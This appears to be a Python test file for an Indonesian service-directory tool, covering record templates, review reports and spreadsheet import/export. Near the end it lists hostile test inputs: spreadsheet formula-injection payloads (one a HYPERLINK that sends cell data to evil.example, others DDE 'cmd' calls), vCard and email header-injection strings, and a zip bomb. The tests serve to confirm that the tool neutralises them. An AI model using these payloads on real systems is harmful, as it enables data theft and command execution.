"""Editors' commands: `new`, `report`, spreadsheets (`export`/`import`) and the generated guide."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil

import pytest
import yaml
from conftest import ROOT, SERVICE_YML, TODAY

from ruangaman import model
from ruangaman.cli import main
from ruangaman.editor import guide as reference
from ruangaman.editor.new import new_file, template_text
from ruangaman.editor.report import report_project
from ruangaman.editor.spreadsheet import export_rows, import_sheet, write_csv, write_xlsx
from ruangaman.validate import check_project

# --- the generated editor guide ----------------------------------------------------------------


@pytest.mark.parametrize("rel", sorted(reference.generated_pages()))
def test_committed_editor_guide_reference_matches_the_model(rel):
    committed = (ROOT / rel).read_text(encoding="utf-8")
    assert committed == reference.generated_pages()[rel], (
        f"{rel} is out of date: run `ruangaman docs` and commit the result"
    )


def test_field_reference_names_every_service_field():
    text = reference.fields_reference("id")
    for path, _ in reference.flatten(model.SERVICE):
        assert f"| `{path}` |" in text


def test_messages_reference_explains_every_message_in_both_languages():
    from ruangaman.text import problem_codes

    for lang in ("id", "en"):
        text = reference.messages_reference(lang)
        for code in problem_codes():
            assert f"## `{code}`" in text
        assert "{" not in text  # every placeholder shown as a word


# --- new ---------------------------------------------------------------------------------------


def _fill(value, spec):
    """Replace every empty placeholder with the model's example for that field."""
    if isinstance(value, dict):
        out = {}
        for key, item in value.items():
            child = spec.child(key) if spec.kind == model.OBJECT else None
            if spec.kind == model.LOCALIZED:
                out[key] = spec.example["id"] if item is None else item
            elif child is None:
                out[key] = item
            elif item is None:
                out[key] = child.example
            else:
                out[key] = _fill(item, child)
        return out
    return value


@pytest.mark.parametrize("kind", ["service", "hotline"])
def test_new_record_validates_once_filled(project, kind):
    shutil.copy(ROOT / "content/taxonomy.yml", project.root / "content/taxonomy.yml")
    path, problems = new_file(project.root, kind, "Layanan Baru Uji")
    assert problems == [] and path.name == "layanan-baru-uji.yml"
    text = path.read_text(encoding="utf-8")
    assert "# nama" in text and "Contoh:" in text  # Indonesian comment naming the field

    # Unfilled: clear errors naming each empty field, no traceback.
    _, _, report = check_project(project.root, today=TODAY)
    rel = path.relative_to(project.root).as_posix()
    empty = {p.field for p in report.errors if p.file == rel}
    assert "description.id" in empty and report.format("id")

    spec = model.SERVICE if kind == "service" else model.HOTLINE
    data = _fill(yaml.safe_load(text), spec)
    if kind == "hotline":  # the name is kept in Indonesian, with a line for its English
        assert "name.en" in empty and data["name"]["id"] == "Layanan Baru Uji"
    if kind == "hotline":
        data["order"] = 9
        data["phones"] = [{"number": "0561 123456"}]
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _, _, report = check_project(project.root, today=TODAY)
    assert report.errors == [], report.format("en")


def test_new_guide_validates_once_filled(project):
    path, _ = new_file(project.root, "guide", "Aman di Sekolah")
    assert path.relative_to(project.root).as_posix() == "docs/panduan/aman-di-sekolah.id.md"
    _, _, report = check_project(project.root, today=TODAY)
    assert {p.field for p in report.errors} >= {"summary", "topics", "reviewed_on", "sources"}
    front, body = path.read_text(encoding="utf-8").split("---\n")[1:3]
    data = _fill(yaml.safe_load(front), model.GUIDE)
    # The template's comment asks to be deleted: a comment left in would be published.
    assert "<!--" in body
    body = "\nIsi panduan.\n"
    text = "---\n" + yaml.safe_dump(data, allow_unicode=True) + "---\n" + body
    path.write_text(text, encoding="utf-8")
    _, _, report = check_project(project.root, today=TODAY)
    assert report.errors == [], report.format("en")


def test_new_refuses_to_overwrite(project, capsys):
    args = ["new", "--project", str(project.root), "service", "Layanan Uji"]
    before = (project.root / "content/services/layanan-uji.yml").read_text(encoding="utf-8")
    assert main(args) == 1
    assert "sudah ada" in capsys.readouterr().err
    after = (project.root / "content/services/layanan-uji.yml").read_text(encoding="utf-8")
    assert after == before
    assert main(args[:3] + ["--lang", "en", "service", "!!!"]) == 1
    assert "cannot be made into a file name" in capsys.readouterr().err


def test_template_text_has_a_comment_for_every_top_level_field():
    text = template_text("service", "X")
    for spec in model.SERVICE.fields:
        assert f"# {spec.title_id} (" in text


# --- report ------------------------------------------------------------------------------------


@pytest.fixture
def attention_project(project):
    project.write(
        "content/services/lama.yml",
        (project.root / "content/services/layanan-uji.yml")
        .read_text(encoding="utf-8")
        .replace("2026-11-01", "2025-01-15"),
    )
    project.write(
        "content/services/belum.yml",
        "name: Belum\norganization: {name: X}\ntypes: [pengaduan]\ndescription: Uraian.\n"
        "location: {kecamatan: Kubu}\nstatus: unverified\n",
    )
    project.remove("docs/index.en.md")
    guide = (project.root / "docs/panduan/uji.id.md").read_text(encoding="utf-8")
    project.write("docs/panduan/tua.id.md", guide.replace("2026-11-01", "2025-06-30"))
    return project


def test_report_lists_what_needs_attention(attention_project):
    code, text, _ = report_project(attention_project.root, "id", "text", 12, TODAY)
    assert code == 1
    assert "Kontak yang perlu ditelepon (masa tinjau 12 bulan) (2)" in text
    assert "  1. Belum (content/services/belum.yml)\n" in text
    assert "     alasan: belum pernah dipastikan\n" in text
    assert "  2. Layanan Uji (content/services/lama.yml)\n" in text
    assert "     alasan: terakhir dipastikan 2025-01-15, lebih lama dari masa tinjau\n" in text
    assert "belum ada docs/index.en.md" in text and "belum ada docs/panduan/tua.en.md" in text
    assert "Panduan yang sudah waktunya ditinjau (12 bulan) (1)" in text
    assert "docs/panduan/uji.id.md" not in text.split("ditinjau")[-1]


def test_report_markdown_and_months(attention_project):
    code, text, _ = report_project(attention_project.root, "en", "markdown", 24, TODAY)
    assert code == 1
    assert text.startswith("## What needs an editor's attention")
    assert (
        "| 1 | Belum (`content/services/belum.yml`) | no number in its file (visit, or find an "
        "official source) | never confirmed | none logged |"
    ) in text
    assert "lama.yml" not in text  # 2025-01-15 is within 24 months
    assert "Guides due for review" not in text


def test_report_exit_codes(project, capsys):
    assert main(["report", "--project", str(project.root)]) == 0
    assert "Tidak ada yang perlu diperhatikan" in capsys.readouterr().out
    project.write("content/services/rusak.yml", "name: [\n")
    assert main(["report", "--project", str(project.root), "--lang", "en"]) == 2
    assert "fix them first" in capsys.readouterr().err


# --- spreadsheets ------------------------------------------------------------------------------


@pytest.fixture
def shipped_copy(tmp_path):
    root = tmp_path / "site"
    shutil.copytree(ROOT / "content", root / "content")
    return root


def _snapshot(root):
    return {p: p.read_bytes() for p in sorted((root / "content").rglob("*")) if p.is_file()}


@pytest.mark.parametrize("kind", ["services", "hotlines"])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_round_trip_changes_nothing(shipped_copy, tmp_path, kind, suffix):
    header, rows = export_rows(shipped_copy, kind)
    sheet = tmp_path / f"{kind}.{suffix}"
    (write_csv if suffix == "csv" else write_xlsx)(
        *((sheet, header, rows) + (() if suffix == "csv" else (kind,)))
    )
    before = _snapshot(shipped_copy)
    result = import_sheet(shipped_copy, sheet, kind)
    assert result.report.errors == [] and result.written == []
    assert len(result.unchanged) == len(rows) > 0
    assert _snapshot(shipped_copy) == before
    assert export_rows(shipped_copy, kind) == (header, rows)


def test_import_writes_files_that_validate_and_export_the_same(shipped_copy, tmp_path):
    header, rows = export_rows(shipped_copy, "services")
    sheet = tmp_path / "services.xlsx"
    write_xlsx(sheet, header, rows, "services")
    for path in (shipped_copy / "content/services").glob("*.yml"):
        path.unlink()
    result = import_sheet(shipped_copy, sheet, "services")
    assert len(result.written) == len(rows)
    _, _, report = check_project(shipped_copy)
    assert report.errors == []
    assert export_rows(shipped_copy, "services") == (header, rows)


def test_import_reads_phones_hours_and_notes(project, tmp_path):
    sheet = tmp_path / "baru.csv"
    header = [
        "name",
        "organization.name",
        "types",
        "description.id",
        "location.kecamatan",
        "phones",
        "phones.description.id",
        "schedule.weekly",
        "status",
    ]
    row = [
        "Pos Baru",
        "Lembaga",
        "pengaduan\nkesehatan",
        "Uraian.",
        "Kubu",
        "0561 123456 (voice); 0812 3456 7890 (whatsapp)",
        "\nWA admin",
        "senin-jumat 08:00-15:00\nsabtu 8.00-12:00",
        "unverified",
    ]
    write_csv(sheet, header, [row])
    result = import_sheet(project.root, sheet, "services", TODAY)
    assert result.report.errors == [], result.report.format("en")
    data = yaml.safe_load((project.root / "content/services/pos-baru.yml").read_text())
    assert data["types"] == ["pengaduan", "kesehatan"]
    assert data["phones"] == [
        {"number": "0561 123456", "type": "voice"},
        {"number": "0812 3456 7890", "type": "whatsapp", "description": {"id": "WA admin"}},
    ]
    assert data["schedule"]["weekly"][0]["days"] == list(model.DAYS[:5])
    assert data["schedule"]["weekly"][1] == {
        "days": ["sabtu"],
        "opens_at": "8:00",
        "closes_at": "12:00",
    }


def test_import_with_bad_rows_reports_every_row_and_column_and_writes_nothing(
    project, tmp_path, capsys
):
    sheet = tmp_path / "layanan.csv"
    header = [
        "slug",
        "name",
        "organization.name",
        "types",
        "description.id",
        "location.kecamatan",
        "phones",
        "schedule.weekly",
        "status",
        "latitude",
    ]
    good = ["baik", "Baik", "L", "pengaduan", "U.", "Kubu", "", "", "unverified", ""]
    rows = [
        good,
        ["", "Salah Kecamatan", "L", "pengaduan", "U.", "Kubu Rayaa", "", "", "unverified", ""],
        ["x3", "Tiga", "", "pengaduanx", "U.", "Kubu", "0561-12 (voice)", "", "unverified", ""],
        ["x4", "Empat", "L", "pengaduan", "", "Kubu", "", "senin 25:00-10:00", "aktif", ""],
        ["x5", "Lima", "L", "pengaduan", "U.", "Kubu", "", "tiap hari", "unverified", ""],
        ["baik", "Dobel", "L", "pengaduan", "U.", "Kubu", "", "", "unverified", ""],
    ]
    write_csv(sheet, header, rows)
    before = _snapshot(project.root)
    assert main(["import", "--project", str(project.root), str(sheet)]) == 1
    err = capsys.readouterr().err
    assert _snapshot(project.root) == before  # nothing written, not even the good row
    expected = [
        ("1", "latitude", "tidak dikenal"),
        ("3", "location.kecamatan", 'Kecamatan "Kubu Rayaa" tidak ada'),
        ("4", "organization.name", "belum diisi"),
        ("4", "types", "pengaduanx"),
        ("4", "phones", "0561-12"),
        ("5", "description.id", "description.id"),
        ("5", "schedule.weekly", "25:00"),
        ("5", "status", '"aktif"'),
        ("6", "schedule.weekly", "tiap hari"),
        ("7", "slug", "baris 2"),
    ]
    for row, column, words in expected:
        block = [b for b in err.split("\n\n") if f"layanan.csv, baris {row}, kolom `{column}`" in b]
        assert block and words in block[0], (row, column, err)
    assert "Tidak ada berkas yang ditulis" in err
    assert "Traceback" not in err


EXCEL_HEADER = "slug;name;organization.name;types;description.id;location.kecamatan;status"


def _excel_rows(*rows: str) -> str:
    """A sheet as Indonesian Excel saves "CSV": semicolons, Windows line ends."""
    return "\r\n".join((EXCEL_HEADER, *rows)) + "\r\n"


def test_a_csv_from_indonesian_excel_is_read_as_it_was_saved(project, tmp_path, capsys):
    sheet = tmp_path / "layanan.csv"
    text = _excel_rows(
        "pos-cafe;Pos Café;Lembaga – Desa;pengaduan;Konseling, gratis.;Kubu;unverified",
        ";;;;;;",  # an empty row, as Excel keeps one
        "pos-dua;Pos Dua;Lembaga;pengaduan;U.;Kubu;unverified",
    )
    sheet.write_bytes(text.encode("cp1252"))
    assert main(["import", "--project", str(project.root), str(sheet)]) == 0
    out = capsys.readouterr()
    data = yaml.safe_load((project.root / "content/services/pos-cafe.yml").read_text("utf-8"))
    assert data["name"] == "Pos Café" and data["organization"]["name"] == "Lembaga – Desa"
    assert data["description"]["id"] == "Konseling, gratis."  # a comma is text here
    assert (project.root / "content/services/pos-dua.yml").is_file()
    # The guessed code page is told, with what to check and how to save next time.
    assert "layanan.csv, baris 1" in out.err and "Windows-1252" in out.err
    assert "CSV UTF-8" in out.err and "Traceback" not in out.err


def test_rows_are_numbered_as_the_sheet_shows_them(project, tmp_path, capsys):
    sheet = tmp_path / "layanan.csv"
    text = _excel_rows(
        "baik;Baik;L;pengaduan;U.;Kubu;unverified",
        ";;;;;;",
        ";;;;;;",
        "salah;Salah;L;pengaduan;U.;Kubu Rayaa;unverified",
    )
    sheet.write_bytes(text.encode("utf-8-sig"))
    assert main(["import", "--project", str(project.root), str(sheet)]) == 1
    err = capsys.readouterr().err
    assert "layanan.csv, baris 5, kolom `location.kecamatan`" in err, err  # rows 3-4 are empty
    assert err.count("layanan.csv, baris") == 1  # one mistake, one message
    assert "Windows-1252" not in err


def test_unicode_text_from_excel_is_read(project, tmp_path):
    sheet = tmp_path / "layanan.csv"
    text = _excel_rows("pos-tiga;Pos Tiga;Lembaga;pengaduan;Uraian;Kubu;unverified")
    sheet.write_bytes(text.replace(";", "\t").encode("utf-16"))  # Excel's "Unicode Text"
    result = import_sheet(project.root, sheet, "services", TODAY)
    assert result.report.problems == [], result.report.format("en")
    assert result.written == ["content/services/pos-tiga.yml"]


@pytest.mark.parametrize(
    "raw",
    [
        b"name\x00,x\n\x00\x01\x02",  # binary, or UTF-16 without its mark
        b"name,status\nPos \x81\x8d,unverified\n",  # bytes no code page Excel uses has
    ],
)
def test_a_csv_that_is_no_text_is_refused_in_one_sentence(project, tmp_path, capsys, raw):
    sheet = tmp_path / "layanan.csv"
    sheet.write_bytes(raw)
    before = _snapshot(project.root)
    assert main(["import", "--project", str(project.root), "--lang", "en", str(sheet)]) == 1
    err = capsys.readouterr().err
    assert _snapshot(project.root) == before
    assert err.count("layanan.csv") == 2  # the one problem, and "nothing written" naming it
    assert "not UTF-8, UTF-16 or Windows-1252" in err and "CSV UTF-8" in err
    assert "Traceback" not in err


def test_import_messages_in_english_and_unreadable_files(project, tmp_path, capsys):
    bad = tmp_path / "x.xlsx"
    bad.write_bytes(b"not a spreadsheet")
    assert main(["import", "--project", str(project.root), "--lang", "en", str(bad)]) == 1
    assert "This spreadsheet cannot be read" in capsys.readouterr().err
    other = tmp_path / "x.ods"
    other.write_text("x")
    assert main(["import", "--project", str(project.root), "--lang", "en", str(other)]) == 1
    assert "not a known kind of spreadsheet" in capsys.readouterr().err


def test_export_command_writes_csv_and_xlsx(shipped_copy, tmp_path):
    out = tmp_path / "out"
    assert main(["export", "--project", str(shipped_copy), "--out", str(out)]) == 0
    with (out / "services.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:2] == ["slug", "name"] and len(rows) == 16
    from openpyxl import load_workbook

    sheet = load_workbook(out / "services.xlsx").active
    assert [c.value for c in sheet[1]][:2] == ["slug", "name"]
    assert sheet.max_row == 16


def test_months_before_is_used_for_review_period():
    from ruangaman.validate import months_before

    assert months_before(dt.date(2026, 11, 28), 12) == dt.date(2025, 11, 28)


# --- trust: formulas, vCards, mail addresses, oversized sheets (issue 10, classes 10, 11) -----

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "'=1+1",
    "''+1",
]


def test_export_escapes_formulas_and_import_gives_them_back_byte_for_byte(project, tmp_path):
    import csv as csvmod

    from openpyxl import load_workbook

    from ruangaman.model.cells import is_formula_like

    for i, name in enumerate(FORMULAS):
        project.write(
            f"content/services/f{i}.yml",
            SERVICE_YML.replace("name: Layanan Uji", f"name: {json.dumps(name)}"),
        )
    before = {p: p.read_bytes() for p in (project.root / "content").rglob("*.yml")}
    header, rows = export_rows(project.root, "services")
    write_csv(tmp_path / "s.csv", header, rows)
    write_xlsx(tmp_path / "s.xlsx", header, rows, "services")
    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csvmod.reader(f) for c in row]
    assert not [c for c in cells if is_formula_like(c) and not c.startswith("'")]
    sheet = load_workbook(tmp_path / "s.xlsx").worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.quotePrefix
    for sheet_file in ("s.csv", "s.xlsx"):
        result = import_sheet(project.root, tmp_path / sheet_file, "services", TODAY)
        assert not result.report.errors, result.report.format("en")
        assert result.written == []
        after = {p: p.read_bytes() for p in (project.root / "content").rglob("*.yml")}
        assert after == before


def test_open_data_csv_holds_no_live_formula_and_keeps_phone_numbers(project):
    import csv as csvmod

    from ruangaman.model.cells import csv_cell, is_formula_like

    assert csv_cell("+62 811 2345 6789", numbers_ok=True) == "+62 811 2345 6789"
    assert csv_cell("=1+1", numbers_ok=True) == "'=1+1"
    assert csv_cell("-1+cmd|x", numbers_ok=True).startswith("'")
    project.write(
        "content/services/f.yml",
        SERVICE_YML.replace("name: Layanan Uji", 'name: "=HYPERLINK(\\"http://x.example\\")"'),
    )
    from ruangaman.render.opendata import export_files
    from ruangaman.validate import check_project

    _, site, report = check_project(project.root, today=TODAY)
    files = export_files(site)
    rows = list(csvmod.reader(io.StringIO(files["api/services.csv"].decode())))
    names = [row[1] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x.example")' in names
    for row in rows[1:]:
        for cell in row:
            assert not is_formula_like(cell) or cell.startswith("'") or cell[0] in "+-"


@pytest.mark.parametrize(
    "address",
    [
        "Jl. A\r\nTEL:+1 555 0100",
        "Jl. A\nEND:VCARD\nBEGIN:VCARD",
        "Jl. A\rTEL:1",
        "Jl. A\u2028TEL:1",
        "Jl. A\x85TEL:1",
        "Jl. A\x0bTEL:1",
        "Jl; A, B \\ C",
    ],
)
def test_a_vcard_value_never_starts_a_property(address):
    from ruangaman.render.share import vcard
    from ruangaman.validate.phones import Phone
    from ruangaman.validate.site import ParsedPhone, Service

    data = {
        "status": "active",
        "name": "Layanan\r\nTEL:+1999",
        "organization": {"name": "Org;X"},
        "phones": [{"number": "0812", "type": "voice"}],
        "location": {"address": address, "kecamatan": "A" * 200},
        "url": "https://x.example/\r\nTEL:1",
    }
    phone = ParsedPhone("0812", "voice", Phone("+6281234567890"))
    card = vcard(Service("x", "id", "content/services/x.yml", data, None, phones=(phone,)), None)
    lines = card.split("\r\n")
    names = [line.split(":", 1)[0].split(";", 1)[0] for line in lines if line and line[0] != " "]
    assert names == ["BEGIN", "VERSION", "FN", "N", "ORG", "TEL", "ADR", "URL", "END"]
    assert all(len(line.encode()) <= 75 for line in lines)
    assert "\n" not in card.replace("\r\n", "")
    assert "\r" not in card.replace("\r\n", "")


@pytest.mark.parametrize(
    "email",
    [
        "a@b.example?bcc=someone@elsewhere.example",
        "a@b.example?cc=x%40y.example",
        "a@b.example,c@d.example",
        "a@b.example&bcc=x",
        "a@b.example%0Abcc:x@y.example",
        '"a b"@c.example',
        "a@b.example\nbcc: x@y.example",
        "mailto:a@b.example",
        "a@b.example#x",
        "<a@b.example>",
    ],
)
def test_email_accepts_a_plain_address_only(project, email):
    project.write(
        "content/services/layanan-uji.yml",
        SERVICE_YML.replace("name: Layanan Uji", f"name: Layanan Uji\nemail: {json.dumps(email)}"),
    )
    from ruangaman.validate import check_project

    _, _, report = check_project(project.root, today=TODAY)
    assert any(p.field == "email" for p in report.errors), email


def test_an_xlsx_bomb_and_a_huge_csv_are_refused_with_a_message(project, tmp_path, monkeypatch):
    import zipfile

    from ruangaman.editor import spreadsheet

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (spreadsheet.MAX_UNCOMPRESSED + 1))
    result = import_sheet(project.root, bomb, "services", TODAY)
    assert [p.code for p in result.report.errors] == ["sheet_too_large"]
    assert "MB" in result.report.format("en")

    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 50)
    many = tmp_path / "many.csv"
    many.write_text("name.id\n" + "".join(f"Layanan {i}\n" for i in range(60)))
    result = import_sheet(project.root, many, "services", TODAY)
    problem = result.report.errors[0]
    assert problem.code == "sheet_too_many_rows" and problem.line == 52
    assert result.written == []

    header, rows = export_rows(project.root, "services")
    write_xlsx(tmp_path / "big.xlsx", header, rows * 60, "services")
    result = import_sheet(project.root, tmp_path / "big.xlsx", "services", TODAY)
    assert [p.code for p in result.report.errors] == ["sheet_too_many_rows"]
